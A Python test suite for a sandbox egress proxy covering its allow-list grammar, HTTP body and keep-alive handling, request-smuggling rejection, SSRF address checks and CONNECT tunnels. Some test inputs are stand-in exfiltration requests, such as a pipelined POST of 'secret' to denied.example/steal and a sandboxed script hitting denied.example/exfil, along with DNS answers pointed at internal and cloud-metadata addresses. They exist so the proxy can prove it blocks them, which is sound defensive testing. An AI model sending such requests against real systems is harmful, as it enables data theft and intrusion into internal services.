"""Egress proxy against real sockets and a real local HTTP server: bodies, keep-alive, CONNECT, the
allow-list grammar, the address rule, and one run through a real bubblewrap sandbox."""

from __future__ import annotations

import ipaddress
import json
import os
import shutil
import socket
import tempfile
import textwrap
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest

from catalog.runners.egress import EgressProxy, host_allowed
from catalog.runners.egress_policy import BadAddress, parse_pattern, validate_patterns
from catalog.runners.sandbox import SandboxRunner, sandbox_root

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed")


# --- a real upstream: echoes what it received, counts requests -----------------------------------
class _Echo(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # keeps connections alive unless told otherwise

    def log_message(self, *args) -> None:
        pass

    def _body(self) -> bytes:
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            body = b""
            while size := int(self.rfile.readline().split(b";")[0], 16):
                body += self.rfile.read(size)
                self.rfile.readline()
            while self.rfile.readline() not in (b"\r\n", b""):
                pass
            return body
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def _answer(self) -> None:
        body = self._body()
        if self.path == "/stream":
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            self.wfile.write(b"3\r\nabc\r\n2\r\nde\r\n0\r\n\r\n")
            self.server.seen.append((self.command, self.path, self.headers.get("Host"), body))  # type: ignore[attr-defined]
            return
        self.server.seen.append((self.command, self.path, self.headers.get("Host"), body))  # type: ignore[attr-defined]
        out = json.dumps(
            {"method": self.command, "path": self.path, "host": self.headers.get("Host"), "body": body.decode()}
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    do_GET = do_POST = do_PUT = _answer


@pytest.fixture
def upstream():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    server.daemon_threads = True
    server.seen = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def proxy(tmp_path):
    """proxy(patterns, **kw) -> (EgressProxy started, its socket path, the list of reports)."""
    started: list[EgressProxy] = []

    def make(patterns: list[str], **kw):
        seen: list[tuple[str, int, bool]] = []
        p = EgressProxy(tmp_path / f"p{len(started)}.sock", patterns, lambda h, pt, a: seen.append((h, pt, a)), **kw)
        p.start()
        started.append(p)
        return p, p.socket_path, seen

    yield make
    for p in started:
        p.stop()


class _Client:
    """A raw proxy client: the exact bytes we write, responses read from one buffer (pipelining-safe)."""

    def __init__(self, path: str) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(10)
        self.sock.connect(path)
        self.file = self.sock.makefile("rb")

    def __enter__(self) -> _Client:
        return self

    def __exit__(self, *exc) -> None:
        self.file.close()
        self.sock.close()

    def send(self, data: bytes | str) -> None:
        self.sock.sendall(data.encode() if isinstance(data, str) else data)

    def response(self, method: str = "GET", interim: bool = False) -> SimpleNamespace:
        status = int(self.file.readline().split(b" ", 2)[1])
        headers: dict[str, str] = {}
        while (line := self.file.readline()) not in (b"\r\n", b""):
            name, _, value = line.decode().partition(":")
            headers[name.strip().lower()] = value.strip()
        body = b""
        if interim or method == "HEAD" or status in (204, 304) or method == "CONNECT" and status == 200:
            pass
        elif headers.get("transfer-encoding", "").lower() == "chunked":
            while size := int(self.file.readline().split(b";")[0], 16):
                body += self.file.read(size)
                self.file.readline()
            self.file.readline()
        else:
            body = self.file.read(int(headers.get("content-length", 0)))
        return SimpleNamespace(status=status, headers=headers, body=body)


def _port(server) -> int:
    return server.server_address[1]


# --- the grammar ------------------------------------------------------------------------------
def test_patterns_and_ports():
    hosts = ["api.anthropic.com", "*.github.com", "127.0.0.1:8080", "*.corp.example:8443", "[::1]:9000"]
    assert host_allowed("api.anthropic.com", hosts)
    assert host_allowed("API.Anthropic.com.", hosts)
    assert host_allowed("codeload.github.com", hosts) and host_allowed("codeload.github.com", hosts, 80)
    assert not host_allowed("github.com", hosts)
    assert not host_allowed("evilgithub.com", hosts)
    assert not host_allowed("anthropic.com", hosts)
    assert not host_allowed("api.anthropic.com", hosts, 22)  # no port written: web ports only
    assert host_allowed("127.0.0.1", hosts, 8080) and not host_allowed("127.0.0.1", hosts, 6379)
    assert host_allowed("a.corp.example", hosts, 8443) and not host_allowed("a.corp.example", hosts, 443)
    assert host_allowed("::1", hosts, 9000)
    assert not host_allowed("1.0.0.1", ["*.0.0.1"])  # a wildcard never matches an IP literal


@pytest.mark.parametrize(
    "bad",
    ["https://api.x.com", "api.x.com/v1", "a b.com", " api.x.com", "*", "*.", "a.*.com", "*.10.0.0", "x.com:0",
     "x.com:65536", "x.com:http", "user@x.com", "[::1", "fe80::1%eth0", "ex_ample.com:-1", "", "a..b", "127.1", "2130706433", "0x7f000001"],
)  # fmt: skip
def test_bad_patterns_are_refused(bad):
    with pytest.raises(BadAddress):
        parse_pattern(bad)


def test_validate_patterns_canonicalises_and_limits():
    assert validate_patterns(["API.x.com", "api.x.com", "*.Y.org:8443", "::1", "10.0.0.1:5432"]) == (
        ["api.x.com", "*.y.org:8443", "[::1]", "10.0.0.1:5432"],
        [],
    )
    _, errors = validate_patterns(["ok.com", "http://bad.com", 7])
    assert [e.split(" (")[0] for e in errors] == ["Entry 2", "Entry 3"]
    assert validate_patterns([f"h{i}.com" for i in range(51)])[1] and validate_patterns("x.com")[1]


# --- plain HTTP ---------------------------------------------------------------------------------
def test_body_in_the_same_write_as_the_head_is_forwarded(proxy, upstream):
    """Every HTTP client writes a small body with its head; the old proxy lost it and the call hung."""
    port = _port(upstream)
    _, path, seen = proxy([f"127.0.0.1:{port}"])
    body = json.dumps({"prompt": "hello", "n": 3}).encode()
    with _Client(path) as c:
        c.send(
            f"POST http://127.0.0.1:{port}/v1/echo?x=1 HTTP/1.1\r\nHost: evil.example\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode()
            + body
        )
        r = c.response("POST")
    assert r.status == 200
    echoed = json.loads(r.body)
    assert echoed == {"method": "POST", "path": "/v1/echo?x=1", "host": f"127.0.0.1:{port}", "body": body.decode()}
    assert seen == [("127.0.0.1", port, True)]


def test_chunked_body_is_forwarded(proxy, upstream):
    port = _port(upstream)
    _, path, _ = proxy([f"127.0.0.1:{port}"])
    with _Client(path) as c:
        c.send(
            f"PUT http://127.0.0.1:{port}/up HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
            + b"5;ext=1\r\nhello\r\n"
        )
        time.sleep(0.05)
        c.send(b"7\r\n, world\r\n0\r\nX-Trailer: t\r\n\r\n")
        r = c.response("PUT")
    assert r.status == 200 and json.loads(r.body)["body"] == "hello, world"
    assert upstream.seen == [("PUT", "/up", f"127.0.0.1:{port}", b"hello, world")]


@pytest.mark.parametrize("pipelined", [False, True])
def test_second_request_on_a_kept_alive_connection_is_checked(proxy, upstream, pipelined):
    """The old proxy piped raw bytes after the first request: the second one went out unchecked."""
    port = _port(upstream)
    _, path, seen = proxy([f"127.0.0.1:{port}"])
    first = f"GET http://127.0.0.1:{port}/one HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
    second = b"POST http://denied.example/steal HTTP/1.1\r\nHost: denied.example\r\nContent-Length: 6\r\n\r\nsecret"
    with _Client(path) as c:
        if pipelined:
            c.send(first + second)
            one, two = c.response(), c.response("POST")
        else:
            c.send(first)
            one = c.response()
            assert "connection" not in one.headers  # the connection stays open for the next request
            c.send(second)
            two = c.response("POST")
    assert one.status == 200 and json.loads(one.body)["path"] == "/one"
    assert two.status == 403 and b"denied.example:80 is not allowed" in two.body
    assert seen == [("127.0.0.1", port, True), ("denied.example", 80, False)]
    assert [(m, p) for m, p, _, _ in upstream.seen] == [("GET", "/one")]


def test_several_allowed_requests_on_one_connection(proxy, upstream):
    port = _port(upstream)
    _, path, seen = proxy([f"127.0.0.1:{port}"])
    with _Client(path) as c:
        for i in range(3):
            c.send(f"POST http://127.0.0.1:{port}/{i} HTTP/1.1\r\nHost: h\r\nContent-Length: 1\r\n\r\n{i}".encode())
            assert json.loads(c.response("POST").body)["body"] == str(i)
    assert seen == [("127.0.0.1", port, True)] * 3


def test_chunked_response_then_expect_continue_on_the_same_connection(proxy, upstream):
    port = _port(upstream)
    _, path, seen = proxy([f"127.0.0.1:{port}"])
    with _Client(path) as c:
        c.send(f"GET http://127.0.0.1:{port}/stream HTTP/1.1\r\nHost: h\r\n\r\n")
        streamed = c.response()
        assert streamed.status == 200 and streamed.body == b"abcde" and "connection" not in streamed.headers
        c.send(
            f"POST http://127.0.0.1:{port}/big HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n"
        )
        assert c.response(interim=True).status == 100  # the body is sent only after this
        c.send("data")
        assert json.loads(c.response("POST").body)["body"] == "data"
        c.send(f"GET http://127.0.0.1:{port}/last HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
        last = c.response()
        assert last.status == 200 and last.headers.get("connection") == "close"
        assert c.sock.recv(10) == b""  # the client asked to close: the proxy closes after the answer
    assert seen == [("127.0.0.1", port, True)] * 3


@pytest.mark.parametrize(
    "head",
    [
        "Transfer-Encoding: chunked\r\nContent-Length: 3",  # which one ends the body? refuse both
        "Content-Length: 3\r\nContent-Length: 4",
        "Transfer-Encoding: gzip",
        "X-Folded: a\r\n b",
        "Bad Header : x",
    ],
)
def test_ambiguous_requests_are_refused_before_anything_is_sent(proxy, upstream, head):
    port = _port(upstream)
    _, path, _ = proxy([f"127.0.0.1:{port}"])
    with _Client(path) as c:
        c.send(f"POST http://127.0.0.1:{port}/ HTTP/1.1\r\n{head}\r\n\r\nabc".encode())
        r = c.response("POST")
    assert r.status in (400, 501) and upstream.seen == []


def test_origin_form_and_https_urls_are_refused(proxy):
    _, path, seen = proxy(["*.example.com"])
    lines = ("GET / HTTP/1.1", "GET https://a.example.com/ HTTP/1.1", "GET http://u@a.example.com/ HTTP/1.1")
    for line in (*lines, "GET http://2130706433/ HTTP/1.1", "CONNECT a.example.com HTTP/1.1"):
        with _Client(path) as c:
            c.send(f"{line}\r\nHost: a.example.com\r\n\r\n".encode())
            assert c.response().status == 400, line
    assert seen == []


def test_pattern_without_port_allows_web_ports_only(proxy, upstream):
    port = _port(upstream)
    _, path, seen = proxy(["127.0.0.1"])
    with _Client(path) as c:
        c.send(f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert c.response().status == 403
    assert seen == [("127.0.0.1", port, False)] and upstream.seen == []


def test_unreachable_upstream_is_a_502_without_exception_text(proxy):
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    _, path, seen = proxy([f"127.0.0.1:{port}"])
    with _Client(path) as c:
        c.send(f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        r = c.response()
    assert r.status == 502 and "x-error" not in r.headers
    assert r.body == f"goldpath egress proxy: 127.0.0.1:{port} refused the connection\n".encode()
    assert b"Errno" not in r.body and seen == [("127.0.0.1", port, True)]


# --- the address rule (SSRF) ------------------------------------------------------------------
@pytest.mark.parametrize("answer", ["127.0.0.1", "::ffff:127.0.0.1", "10.1.2.3", "169.254.169.254", "192.168.1.1"])
def test_wildcard_name_pointed_at_a_private_address_is_refused(proxy, upstream, answer):
    """DNS for an allowed suffix answers 127.0.0.1 (or the cloud metadata address): the attack reaches the
    worker's own services unless the proxy checks the address it connects to."""
    port = _port(upstream)
    _, path, seen = proxy([f"*.example.test:{port}"], resolve=lambda host, p: [answer])
    with _Client(path) as c:
        c.send(f"GET http://redis.example.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        r = c.response()
    assert r.status == 403 and b"non-public address" in r.body
    with _Client(path) as c:
        c.send(f"CONNECT db.example.test:{port} HTTP/1.1\r\n\r\n".encode())
        assert c.response("CONNECT").status == 403
    assert seen == [("redis.example.test", port, False), ("db.example.test", port, False)]
    assert upstream.seen == []


def test_address_rule():
    wildcard, exact = parse_pattern("*.example.test:8080"), parse_pattern("localhost:8080")
    for private in ("127.0.0.1", "::1", "::ffff:10.0.0.1", "100.64.0.1", "fe80::1", "0.0.0.0", "224.0.0.1"):
        assert not wildcard.permits_address(ipaddress.ip_address(private)), private
        assert exact.permits_address(ipaddress.ip_address(private))
    assert wildcard.permits_address(ipaddress.ip_address("93.184.216.34"))


def test_exact_name_may_reach_a_private_address(proxy, upstream):
    """`localhost:PORT` (resolved by the real resolver) and `127.0.0.1:PORT` name the target exactly."""
    port = _port(upstream)
    for pattern, url_host in ((f"localhost:{port}", "localhost"), (f"127.0.0.1:{port}", "127.0.0.1")):
        _, path, seen = proxy([pattern])
        with _Client(path) as c:
            c.send(f"GET http://{url_host}:{port}/ok HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            assert c.response().status == 200
        assert seen == [(url_host, port, True)]


# --- CONNECT ----------------------------------------------------------------------------------
def _tcp_echo() -> tuple[socket.socket, int]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)

    def echo() -> None:
        conn, _ = srv.accept()
        with conn:
            while data := conn.recv(100):
                conn.sendall(data.upper())

    threading.Thread(target=echo, daemon=True).start()
    return srv, srv.getsockname()[1]


def test_connect_allowed_and_denied(proxy):
    srv, port = _tcp_echo()
    p, path, seen = proxy([f"127.0.0.1:{port}"])
    try:
        with _Client(path) as c:
            c.send(b"CONNECT example.com:443 HTTP/1.1\r\n\r\n")
            assert c.sock.recv(4096).startswith(b"HTTP/1.1 403")
        with _Client(path) as c:
            c.send(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\nearly".encode())  # bytes sent with the head
            assert c.sock.recv(39) == b"HTTP/1.1 200 Connection Established\r\n\r\n"
            assert c.sock.recv(100) == b"EARLY"
            c.send(b"ping")
            assert c.sock.recv(100) == b"PING"
            t0 = time.monotonic()
            p.stop()  # a live tunnel does not hold stop() up, and is closed by it
            assert time.monotonic() - t0 < 0.5
            assert c.sock.recv(100) == b""
    finally:
        srv.close()
    assert seen == [("example.com", 443, False), ("127.0.0.1", port, True)]
    assert not os.path.exists(path)


def test_start_and_stop_are_quick(tmp_path):
    t0 = time.perf_counter()
    for _ in range(20):
        p = EgressProxy(tmp_path / "q.sock", ["a.example.com"])
        p.start()
        p.stop()
    assert (time.perf_counter() - t0) / 20 < 0.01  # the old serve_forever/shutdown pair took up to 50 ms


# --- through a real sandbox -------------------------------------------------------------------
AGENT = textwrap.dedent(
    """
    import http.client, json, os, sys, urllib.error, urllib.request
    port = int(sys.argv[1])
    body = json.dumps({"prompt": "fix the bug"}).encode()
    req = urllib.request.Request(f"http://127.0.0.1:{port}/v1/messages", data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    print("POST", urllib.request.urlopen(req, timeout=10).read().decode())
    try:
        urllib.request.urlopen("http://denied.example/exfil", timeout=10)
    except urllib.error.HTTPError as exc:
        print("DENIED", exc.code)
    proxy = os.environ["HTTP_PROXY"].rsplit(":", 1)
    conn = http.client.HTTPConnection(proxy[0].split("//")[1], int(proxy[1]), timeout=10)
    conn.request("POST", f"http://127.0.0.1:{port}/again", body=b"kept")
    print("KEPT", conn.getresponse().read().decode())
    conn.request("GET", "http://denied.example/second")
    print("SECOND", conn.getresponse().status)
    """
)


@needs_bwrap
def test_sandboxed_process_posts_through_the_proxy(upstream):
    port = _port(upstream)
    work = Path(tempfile.mkdtemp(prefix="egress-test-", dir=sandbox_root()))  # reachable by the sandbox uid
    logs: list[tuple[str, str]] = []
    try:
        res = SandboxRunner(
            ["python", "-c", AGENT, str(port)],
            work,
            network=[f"127.0.0.1:{port}"],
            time_limit=30,
            on_log=lambda s, t: logs.append((s, t)),
        ).run()
    finally:
        shutil.rmtree(work, ignore_errors=True)
    out = [t for s, t in logs if s == "stdout"]
    assert res.status == "succeeded", logs
    posted = json.loads(out[0].removeprefix("POST "))
    assert posted["body"] == json.dumps({"prompt": "fix the bug"}) and posted["path"] == "/v1/messages"
    assert out[1] == "DENIED 403"
    assert json.loads(out[2].removeprefix("KEPT "))["body"] == "kept"
    assert out[3] == "SECOND 403"
    egress = [(e["host"], e["port"], e["allowed"]) for e in res.egress]
    assert egress == [("127.0.0.1", port, True), ("denied.example", 80, False)] * 2
    assert [p for _, p, _, _ in upstream.seen] == ["/v1/messages", "/again"]
